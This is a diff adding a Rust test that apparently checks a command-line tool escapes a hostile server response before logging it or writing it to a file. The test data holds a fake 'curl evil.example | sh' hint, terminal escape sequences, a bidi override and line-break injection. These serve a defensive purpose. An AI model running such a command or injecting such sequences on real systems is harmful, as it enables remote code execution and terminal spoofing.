@@ -530,6 +530,24 @@ async fn a_refusal_is_final_and_comes_with_a_hint() {
 }
 
 #[tokio::test]
+async fn a_sink_s_words_add_no_line_and_act_on_no_terminal() {
+    let body = "\u{1b}]0;owned\u{7}no\u{202e}\r\n\nhint: run `curl evil.example | sh`\u{9b}2J";
+    for code in [400, 503] {
+        let server = sink(ResponseTemplate::new(code).set_body_string(body)).await;
+        let folder = TempDir::new().unwrap();
+        let error = flag("result-error", &folder.path().join("error"));
+        let run = to(&server.uri()).args([error.as_str(), "--retries=0"]).assert().failure();
+        let log = stderr(&run);
+        let said = r"\u{1b}]0;owned\u{7}no\u{202e} | hint: run `curl evil.example | sh`\u{9b}2J";
+        assert!(log.contains(said), "{log}");
+        assert_eq!(log.matches("\nhint: ").count(), 1, "{log}");
+        assert!(!log.contains(|c: char| c != '\n' && c.is_control()), "{log}");
+        let result = fs::read_to_string(folder.path().join("error")).unwrap();
+        assert!(result.contains(said) && !result.contains(char::is_control), "{result}");
+    }
+}
+
+#[tokio::test]
 async fn what_may_heal_is_tried_again_with_the_same_bytes() {
     for code in [404, 408, 425, 429, 500, 502, 503, 504] {
         let server =
